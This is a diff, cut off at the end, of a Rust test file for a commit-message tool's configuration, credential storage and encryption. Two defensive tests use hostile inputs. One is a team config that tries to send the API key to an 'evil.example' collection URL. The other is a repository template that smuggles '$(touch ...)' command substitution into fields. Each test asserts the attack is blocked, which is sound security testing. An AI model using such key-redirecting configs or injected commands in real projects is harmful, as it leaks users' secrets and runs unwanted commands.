@@ -2,12 +2,13 @@ mod common;
 
 use std::fs;
 
-use auto_commit_rs::config::{field_description, global_config_path, AppConfig};
+use auto_commit_rs::config::{self, field_description, global_config_path, AppConfig, ConfigScope};
+use auto_commit_rs::credentials;
 use serial_test::serial;
 
 use crate::common::{DirGuard, EnvGuard, GlobalConfigGuard};
 
-fn acr_env_keys() -> [&'static str; 18] {
+fn acr_env_keys() -> [&'static str; 19] {
     [
         "ACR_CONFIG_HOME",
         "ACR_PROVIDER",
@@ -27,6 +28,7 @@ fn acr_env_keys() -> [&'static str; 18] {
         "ACR_WARN_STAGED_FILES_ENABLED",
         "ACR_WARN_STAGED_FILES_THRESHOLD",
         "ACR_CONFIRM_NEW_VERSION",
+        "ACR_PRESET",
     ]
 }
 
@@ -135,6 +137,8 @@ ACR_API_HEADERS='X-Foo: bar'
 fn save_local_writes_normalized_env_file() {
     let repo = common::init_git_repo();
     let _cwd = DirGuard::enter(repo.path());
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+    let _env = EnvGuard::set(&[("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref())]);
     let mut cfg = AppConfig::default();
     cfg.provider = "gemini".into();
     cfg.model = "gemini-2.0-flash".into();
@@ -150,7 +154,8 @@ fn save_local_writes_normalized_env_file() {
     let env_content = fs::read_to_string(repo.path().join(".env")).expect("read .env");
     assert!(env_content.contains("ACR_PROVIDER=gemini"));
     assert!(env_content.contains("ACR_MODEL=gemini-2.0-flash"));
-    assert!(env_content.contains("ACR_API_KEY=secret-key-value"));
+    assert!(!env_content.contains("secret-key-value"));
+    assert!(env_content.contains("ACR_API_KEY=credential:repo:"));
     assert!(env_content.contains("ACR_POST_COMMIT_PUSH=ask"));
     assert!(env_content.contains("ACR_WARN_STAGED_FILES_ENABLED=0"));
     assert!(env_content.contains("ACR_WARN_STAGED_FILES_THRESHOLD=42"));
@@ -167,18 +172,24 @@ fn set_field_parses_boolean_and_numeric_values() {
         .expect("set warning threshold");
     cfg.set_field("WARN_STAGED_FILES_THRESHOLD", "invalid")
         .expect("set invalid warning threshold");
+    cfg.set_field("WARN_STAGED_FILES_MAX_LINES", "500")
+        .expect("set line threshold");
+    cfg.set_field("WARN_STAGED_FILES_MAX_BYTES", "invalid")
+        .expect("set invalid byte threshold");
     cfg.set_field("POST_COMMIT_PUSH", "ALWAYS")
         .expect("set post commit push");
 
     assert!(!cfg.one_liner);
     assert!(cfg.use_gitmoji);
     assert_eq!(cfg.warn_staged_files_threshold, 20);
+    assert_eq!(cfg.warn_staged_files_max_lines, 500);
+    assert_eq!(cfg.warn_staged_files_max_bytes, 200_000);
     assert_eq!(cfg.post_commit_push, "always");
 }
 
 #[test]
 #[serial]
-fn load_errors_when_locale_has_no_i18n_resources() {
+fn load_errors_when_locale_is_unknown_and_has_no_i18n_resources() {
     let repo = common::init_git_repo();
     let _cwd = DirGuard::enter(repo.path());
     let _global = GlobalConfigGuard::backup();
@@ -191,7 +202,7 @@ fn load_errors_when_locale_has_no_i18n_resources() {
         ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
     ]);
     let _acr = EnvGuard::clear(&acr_env_keys());
-    let _set_locale = EnvGuard::set(&[("ACR_LOCALE", "pl")]);
+    let _set_locale = EnvGuard::set(&[("ACR_LOCALE", "xx")]);
 
     let err = AppConfig::load().expect_err("expected locale validation error");
     assert!(
@@ -215,14 +226,61 @@ fn load_accepts_non_english_locale_when_i18n_exists() {
         ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
     ]);
     let _acr = EnvGuard::clear(&acr_env_keys());
-    let _set_locale = EnvGuard::set(&[("ACR_LOCALE", "pl")]);
+    let _set_locale = EnvGuard::set(&[("ACR_LOCALE", "tlh")]);
 
     fs::create_dir_all(repo.path().join("i18n")).expect("create i18n dir");
-    fs::write(repo.path().join("i18n").join("pl.toml"), "title = 'Polski'")
+    fs::write(repo.path().join("i18n").join("tlh.toml"), "yes = 'HIja\''")
         .expect("write locale resource");
 
     let cfg = AppConfig::load().expect("config should load with i18n locale");
-    assert_eq!(cfg.locale, "pl");
+    assert_eq!(cfg.locale, "tlh");
+}
+
+#[test]
+#[serial]
+fn load_accepts_embedded_locale_without_i18n_directory() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+    let _set_locale = EnvGuard::set(&[("ACR_LOCALE", "pt_BR")]);
+
+    let cfg = AppConfig::load().expect("embedded locale should load");
+    assert_eq!(cfg.locale, "pt-br");
+    assert!(cfg.locale_configured);
+}
+
+#[test]
+#[serial]
+fn load_tracks_whether_locale_was_configured() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let cfg = AppConfig::load().expect("load defaults");
+    assert_eq!(cfg.locale, "en");
+    assert!(!cfg.locale_configured);
+
+    auto_commit_rs::config::save_locale_preference("en").expect("save locale");
+    let cfg = AppConfig::load().expect("load saved locale");
+    assert!(cfg.locale_configured);
 }
 
 #[test]
@@ -593,11 +651,57 @@ fn field_description_all_fields() {
         "SUPPRESS_TOOL_OUTPUT",
         "WARN_STAGED_FILES_ENABLED",
         "WARN_STAGED_FILES_THRESHOLD",
+        "WARN_STAGED_FILES_MAX_LINES",
+        "WARN_STAGED_FILES_MAX_BYTES",
         "CONFIRM_NEW_VERSION",
         "AUTO_UPDATE",
         "FALLBACK_ENABLED",
         "TRACK_GENERATED_COMMITS",
         "DIFF_EXCLUDE_GLOBS",
+        "MESSAGE_STYLE",
+        "POST_PROCESS",
+        "SUBJECT_MAX_LENGTH",
+        "LOWERCASE_SUBJECT",
+        "ALLOWED_TYPES",
+        "ALLOWED_SCOPES",
+        "SCOPE_MAP",
+        "AUTO_SCOPE",
+        "GITMOJI_DETERMINISTIC",
+        "SKIP_CI",
+        "SKIP_CI_TOKEN",
+        "TYPE_TEMPLATES",
+        "PROMPT_INCLUDE",
+        "PROMPT_EXCLUDE",
+        "PROFILE",
+        "MAX_PAYLOAD_BYTES",
+        "CONTEXT_WINDOW",
+        "REASONING_EFFORT",
+        "SEED",
+        "MONTHLY_BUDGET_USD",
+        "BUDGET_ACTION",
+        "USAGE_METRICS",
+        "CACHE_MAX_COMMITS",
+        "CACHE_MAX_BYTES",
+        "REPO_HISTORY",
+        "AUTO_STASH",
+        "EXCLUDE_LFS",
+        "PRE_COMMIT_HOOK",
+        "PROTECTED_BRANCHES",
+        "PUSH_REMOTE",
+        "AUTO_SET_UPSTREAM",
+        "WARN_DEFAULT_BRANCH",
+        "UPDATE_CHANNEL",
+        "UPDATE_CHECK_HOURS",
+        "REVIEW_TUI",
+        "SHOW_DIFF",
+        "REQUEST_TIMEOUT_SECS",
+        "ASCII_UI",
+        "TEMPLATE_COMMANDS",
+        "PRESET",
+        "ROUTING",
+        "FALLBACK_POLICY",
+        "FALLBACK_MAX_ATTEMPTS",
+        "FALLBACK_COOLDOWN_MINS",
     ];
 
     for suffix in descriptions {
@@ -609,3 +713,552 @@ fn field_description_all_fields() {
         );
     }
 }
+
+#[test]
+#[serial]
+fn config_settings_are_saved_per_scope_and_validated() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    assert_eq!(config::resolve_setting("acr_model").unwrap(), "MODEL");
+    assert_eq!(config::resolve_setting("api-key").unwrap(), "API_KEY");
+    assert!(config::resolve_setting("nope").is_err());
+
+    common::write_file(
+        &repo.path().join(".env"),
+        "# team settings\nACR_MODEL=old\n",
+    );
+    config::save_setting("MODEL", "gpt-4o-mini", ConfigScope::Env).expect("set local");
+    config::save_setting("LOCALE", "pt_BR", ConfigScope::Global).expect("set global");
+    config::save_setting("ONE_LINER", "false", ConfigScope::Global).expect("set global bool");
+    assert!(config::save_setting("LOCALE", "xx", ConfigScope::Global).is_err());
+    assert!(config::save_setting("AUTO_UPDATE", "1", ConfigScope::Env).is_err());
+    assert!(config::save_setting("ENCRYPT_SECRETS", "maybe", ConfigScope::Global).is_err());
+
+    let env = std::fs::read_to_string(repo.path().join(".env")).expect("read .env");
+    assert_eq!(env, "# team settings\nACR_MODEL=gpt-4o-mini\n");
+    let global = config::settings_in(ConfigScope::Global).expect("global settings");
+    assert_eq!(global.get("LOCALE").map(String::as_str), Some("pt-br"));
+    assert_eq!(global.get("ONE_LINER").map(String::as_str), Some("0"));
+
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.setting_value("MODEL").as_deref(), Some("gpt-4o-mini"));
+    assert_eq!(cfg.setting_value("LOCALE").as_deref(), Some("pt-br"));
+
+    config::remove_setting("MODEL", ConfigScope::Env).expect("unset local");
+    config::remove_setting("LOCALE", ConfigScope::Global).expect("unset global");
+    assert!(config::settings_in(ConfigScope::Env)
+        .expect("local")
+        .is_empty());
+    assert!(!config::settings_in(ConfigScope::Global)
+        .expect("global")
+        .contains_key("LOCALE"));
+}
+
+#[test]
+#[serial]
+fn repo_config_file_sits_between_global_and_env_layers() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    config::save_setting("MODEL", "global-model", ConfigScope::Global).expect("set global");
+    config::save_setting("PROVIDER", "groq", ConfigScope::Global).expect("set global");
+    common::write_file(
+        &repo.path().join(config::REPO_CONFIG_FILE),
+        "model = \"repo-model\"\none_liner = false\ndiff_exclude_globs = [\"*.snap\"]\n",
+    );
+    common::write_file(&repo.path().join(".env"), "ACR_ONE_LINER=1\n");
+
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.provider, "groq");
+    assert_eq!(cfg.model, "repo-model");
+    assert!(cfg.one_liner, ".env should override .cgen.toml");
+    assert_eq!(cfg.diff_exclude_globs, vec!["*.snap".to_string()]);
+
+    config::save_setting("LOCALE", "pt_BR", ConfigScope::Repo).expect("set repo");
+    assert!(config::save_setting("AUTO_UPDATE", "0", ConfigScope::Repo).is_err());
+    let repo_settings = config::settings_in(ConfigScope::Repo).expect("repo settings");
+    assert_eq!(
+        repo_settings.get("LOCALE").map(String::as_str),
+        Some("pt-br")
+    );
+    assert_eq!(
+        repo_settings.get("MODEL").map(String::as_str),
+        Some("repo-model")
+    );
+
+    config::remove_setting("MODEL", ConfigScope::Repo).expect("unset repo");
+    let cfg = AppConfig::load().expect("reload");
+    assert_eq!(cfg.model, "global-model");
+}
+
+#[test]
+#[serial]
+fn personal_config_overrides_team_defaults_and_stays_untracked() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    fs::create_dir_all(repo.path().join(".cgen")).expect("create .cgen");
+    common::write_file(
+        &repo.path().join(config::TEAM_CONFIG_FILE),
+        "model = \"team-model\"\nallowed_scopes = [\"api\", \"cli\"]\napi_key = \"sk-committed\"\n",
+    );
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.model, "team-model");
+    assert_eq!(
+        cfg.allowed_scopes,
+        vec!["api".to_string(), "cli".to_string()]
+    );
+    assert!(
+        cfg.api_key.is_empty(),
+        "keys are never read from the team file"
+    );
+
+    assert!(config::save_setting("API_KEY", "sk-1", ConfigScope::Team).is_err());
+    config::save_setting("MODEL", "my-model", ConfigScope::Personal).expect("set personal");
+    let gitignore =
+        fs::read_to_string(repo.path().join(".cgen/.gitignore")).expect("read .gitignore");
+    assert_eq!(gitignore, "config.local.toml\n");
+
+    let cfg = AppConfig::load().expect("reload");
+    assert_eq!(cfg.model, "my-model");
+    assert_eq!(
+        cfg.allowed_scopes,
+        vec!["api".to_string(), "cli".to_string()]
+    );
+
+    config::save_setting("LOCALE", "pt_BR", ConfigScope::Personal).expect("set personal");
+    let gitignore =
+        fs::read_to_string(repo.path().join(".cgen/.gitignore")).expect("read .gitignore");
+    assert_eq!(gitignore, "config.local.toml\n", "entry is added once");
+}
+
+#[test]
+#[serial]
+fn team_config_cannot_redirect_the_api_key() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    fs::create_dir_all(repo.path().join(".cgen")).expect("create .cgen");
+    common::write_file(
+        &repo.path().join(config::TEAM_CONFIG_FILE),
+        "provider = \"exfil\"\napi_url = \"https://evil.example/collect\"\n\
+         api_headers = \"X-Key: ${ACR_API_KEY}\"\nmodel = \"team-model\"\n",
+    );
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.model, "team-model");
+    assert_eq!(cfg.provider, AppConfig::default().provider);
+    assert!(cfg.api_url.is_empty(), "URL from the team file is ignored");
+    assert!(cfg.api_headers.is_empty());
+
+    for (suffix, value) in [
+        ("API_URL", "https://evil.example"),
+        ("API_HEADERS", "X-A: b"),
+        ("PROVIDER", "exfil"),
+    ] {
+        assert!(config::save_setting(suffix, value, ConfigScope::Team).is_err());
+    }
+    config::save_setting("PROVIDER", "openai", ConfigScope::Team).expect("known provider");
+    config::save_setting("API_URL", "https://proxy.example", ConfigScope::Personal)
+        .expect("personal URL");
+    let cfg = AppConfig::load().expect("reload");
+    assert_eq!(cfg.provider, "openai");
+    assert_eq!(cfg.api_url, "https://proxy.example");
+}
+
+#[test]
+#[serial]
+fn directory_profiles_apply_by_repository_path() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let root = auto_commit_rs::git::find_repo_root().expect("repo root");
+    let parent = std::path::Path::new(&root)
+        .parent()
+        .expect("parent")
+        .display()
+        .to_string();
+    let path = global_config_path().expect("global path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    fs::write(
+        path.parent().unwrap().join("presets.toml"),
+        "next_id = 2\n\n[[presets]]\nid = 1\nname = \"Corp\"\nprovider = \"openai\"\n\
+         model = \"corp-model\"\napi_key = \"sk-corp\"\n\
+         api_url = \"https://llm.corp.example/v1\"\napi_headers = \"\"\n",
+    )
+    .expect("write presets");
+    fs::write(
+        &path,
+        format!(
+            "config_version = 1\nprovider = \"groq\"\nmodel = \"m\"\n\n\
+             [profile.\"{parent}/**\"]\npreset = \"Corp\"\none_liner = false\n\n\
+             [profile.\"{root}\"]\none_liner = true\nlocale = \"pt-br\"\n\n\
+             [profile.\"/elsewhere/**\"]\nmodel = \"other\"\n"
+        ),
+    )
+    .expect("write config");
+
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.provider, "openai");
+    assert_eq!(cfg.model, "corp-model");
+    assert_eq!(cfg.api_key, "sk-corp");
+    assert!(cfg.one_liner, "the more specific section wins");
+    assert_eq!(cfg.locale, "pt-br");
+
+    config::save_setting("LOCALE", "en", ConfigScope::Global).expect("set global");
+    assert!(config::save_setting("PROFILE", "terse", ConfigScope::Global).is_err());
+    let content = fs::read_to_string(&path).expect("read config");
+    assert!(content.contains("preset = \"Corp\""), "sections are kept");
+}
+
+#[test]
+#[serial]
+fn repository_preset_applies_before_the_layer_settings() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let path = global_config_path().expect("global path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    fs::write(&path, "config_version = 1\nprovider = \"gemini\"\n").expect("write config");
+    fs::write(
+        path.parent().unwrap().join("presets.toml"),
+        "next_id = 3\n\n[[presets]]\nid = 1\nname = \"Corp\"\nprovider = \"openai\"\n\
+         model = \"corp-model\"\napi_key = \"sk-corp\"\napi_url = \"\"\napi_headers = \"\"\n\
+         timeout_secs = 300\n\n[[presets]]\nid = 2\nname = \"OSS\"\nprovider = \"groq\"\n\
+         model = \"llama\"\napi_key = \"gsk\"\napi_url = \"\"\napi_headers = \"\"\n",
+    )
+    .expect("write presets");
+
+    common::write_file(
+        &repo.path().join(config::REPO_CONFIG_FILE),
+        "preset = \"Corp\"\nmodel = \"corp-tuned\"\n",
+    );
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.provider, "openai");
+    assert_eq!(
+        cfg.model, "corp-tuned",
+        "the file's own keys adjust the preset"
+    );
+    assert_eq!(cfg.api_key, "sk-corp");
+    assert_eq!(cfg.preset_overrides.timeout_secs, Some(300));
+
+    common::write_file(&repo.path().join(".env"), "ACR_PRESET=2\n");
+    let cfg = AppConfig::load().expect("load by id");
+    assert_eq!(cfg.provider, "groq");
+    assert_eq!(cfg.model, "llama");
+    assert_eq!(cfg.preset_overrides.timeout_secs, None);
+
+    common::write_file(&repo.path().join(".env"), "ACR_PRESET=Missing\n");
+    let err = AppConfig::load().expect_err("unknown preset");
+    assert!(format!("{err:#}").contains("Preset 'Missing' used by .env not found"));
+}
+
+#[test]
+#[serial]
+fn load_migrates_unversioned_global_config_once() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let path = global_config_path().expect("global path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    let original = "model = \"gpt-4o\"\none_liner = \"0\"\nwarn_staged_files_threshold = \"5\"\n";
+    fs::write(&path, original).expect("write config");
+
+    let cfg = AppConfig::load().expect("old config should load");
+    assert!(!cfg.one_liner);
+    assert_eq!(cfg.warn_staged_files_threshold, 5);
+
+    let migrated = fs::read_to_string(&path).expect("read migrated");
+    assert!(migrated.contains(&format!("config_version = {}", config::CONFIG_VERSION)));
+    assert!(migrated.contains("one_liner = false"));
+    let backup = path.with_extension("toml.v0.bak");
+    assert_eq!(fs::read_to_string(&backup).expect("backup"), original);
+
+    fs::remove_file(&backup).expect("remove backup");
+    AppConfig::load().expect("reload");
+    assert!(!backup.exists(), "a current config must not be rewritten");
+}
+
+#[test]
+#[serial]
+fn load_moves_plain_api_keys_out_of_the_global_config() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let path = global_config_path().expect("global path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    fs::write(&path, "api_key = \"sk-old-plain\"\nmodel = \"gpt-4o\"\n").expect("write config");
+
+    let cfg = AppConfig::load().expect("old config should load");
+    assert_eq!(cfg.api_key, "sk-old-plain");
+    let migrated = fs::read_to_string(&path).expect("read migrated");
+    assert!(!migrated.contains("sk-old-plain"));
+    assert!(migrated.contains("credential:default"));
+    let creds = credentials::load_credentials().expect("load credentials");
+    assert_eq!(creds.keys["default"], "sk-old-plain");
+
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = |p: &std::path::Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode(&path.with_extension("toml.v0.bak")), 0o600);
+        assert_eq!(mode(&credentials::credentials_path().unwrap()), 0o600);
+    }
+
+    // A current config that got a plain key by hand is cleaned up too
+    let current = format!(
+        "config_version = {}\napi_key = \"sk-hand-edited\"\n",
+        config::CONFIG_VERSION
+    );
+    fs::write(&path, current).expect("write config");
+    assert_eq!(AppConfig::load().expect("reload").api_key, "sk-hand-edited");
+    assert!(!fs::read_to_string(&path)
+        .unwrap()
+        .contains("sk-hand-edited"));
+}
+
+#[test]
+#[serial]
+fn encrypted_api_keys_are_decrypted_on_load() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+        ("ACR_SECRETS_PASSPHRASE", "correct horse"),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    config::save_setting("API_KEY", "sk-secret-1", ConfigScope::Global).expect("save key");
+    config::save_setting("ENCRYPT_SECRETS", "1", ConfigScope::Global).expect("enable encryption");
+
+    let path = credentials::credentials_path().expect("credentials path");
+    let stored = fs::read_to_string(&path).expect("read credentials");
+    assert!(!stored.contains("sk-secret-1"));
+    assert!(stored.contains("enc:v1:"));
+
+    let cfg = AppConfig::load().expect("load");
+    assert_eq!(cfg.api_key, "sk-secret-1");
+
+    config::save_setting("ENCRYPT_SECRETS", "0", ConfigScope::Global).expect("disable encryption");
+    let stored = fs::read_to_string(&path).expect("read credentials");
+    assert!(stored.contains("default = \"sk-secret-1\""));
+}
+
+#[test]
+#[serial]
+fn api_keys_are_saved_to_the_credentials_file() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let mut cfg = AppConfig::default();
+    cfg.api_key = "sk-global".into();
+    cfg.save_global().expect("save global");
+
+    let global = fs::read_to_string(global_config_path().unwrap()).expect("read config");
+    assert!(global.contains("api_key = \"credential:default\""));
+    let creds_path = credentials::credentials_path().expect("credentials path");
+    let creds = credentials::load_credentials().expect("load credentials");
+    assert_eq!(creds.keys["default"], "sk-global");
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = fs::metadata(&creds_path).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+    }
+
+    assert_eq!(AppConfig::load().expect("load").api_key, "sk-global");
+
+    let _key = EnvGuard::set(&[("ACR_API_KEY", "credential:missing")]);
+    let err = AppConfig::load().expect_err("unknown credential");
+    assert!(format!("{err:#}").contains("Credential 'missing' not found"));
+}
+
+#[cfg(unix)]
+#[test]
+#[serial]
+fn repository_templates_never_run_commands() {
+    let repo = common::init_git_repo();
+    let _cwd = DirGuard::enter(repo.path());
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("APPDATA", cfg_dir.path().to_string_lossy().as_ref()),
+    ]);
+    let _acr = EnvGuard::clear(&acr_env_keys());
+
+    let path = global_config_path().expect("global path");
+    fs::create_dir_all(path.parent().unwrap()).expect("create config dir");
+    fs::write(&path, "template_commands = true\n").expect("write config");
+    let marker = cfg_dir.path().join("pwned");
+    fs::write(
+        repo.path().join(".cgen.toml"),
+        format!(
+            "commit_template = \"$msg $(touch {0})\"\napi_headers = \"X-Id: $(touch {0})\"\n",
+            marker.display()
+        ),
+    )
+    .expect("write repo config");
+
+    let cfg = AppConfig::load().expect("load");
+    assert!(cfg.template_commands);
+    assert!(!cfg.commands_allowed("COMMIT_TEMPLATE"));
+    assert!(!cfg.commands_allowed("API_HEADERS"));
+    let message = auto_commit_rs::prompt::apply_commit_template(&cfg, "feat: x");
+    assert!(message.starts_with("feat: x $(touch "), "{message}");
+    assert!(
+        !marker.exists(),
+        "a repository template must not run commands"
+    );
+
+    // The same template from the environment is the user's own and runs
+    let _trusted = EnvGuard::set(&[("ACR_COMMIT_TEMPLATE", "$msg $(printf ok)")]);
+    let cfg = AppConfig::load().expect("load");
+    assert!(cfg.commands_allowed("COMMIT_TEMPLATE"));
+    assert!(!cfg.commands_allowed("API_HEADERS"));
+    assert_eq!(
+        auto_commit_rs::prompt::apply_commit_template(&cfg, "feat: x"),
+        "feat: x ok"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+#[serial]
+fn private_files_are_owner_only_even_in_the_working_directory() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = tempfile::TempDir::new().expect("tempdir");
+    let _cwd = DirGuard::enter(dir.path());
+
+    credentials::write_private(std::path::Path::new("bundle.toml"), "api_key = \"sk\"\n")
+        .expect("write bare file name");
+    let path = dir.path().join("bundle.toml");
+    assert_eq!(fs::read_to_string(&path).unwrap(), "api_key = \"sk\"\n");
+    assert_eq!(
+        fs::metadata(&path).unwrap().permissions().mode() & 0o777,
+        0o600
+    );
+}
+
+#[test]
+#[serial]
+fn setting_a_value_never_replaces_an_unparsable_global_config() {
+    let _global = GlobalConfigGuard::backup();
+    let cfg_dir = tempfile::TempDir::new().expect("tempdir");
+    let _env = EnvGuard::set(&[
+        ("ACR_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("XDG_CONFIG_HOME", cfg_dir.path().to_string_lossy().as_ref()),
+        ("HOME", cfg_dir.path().to_string_lossy().as_ref()),
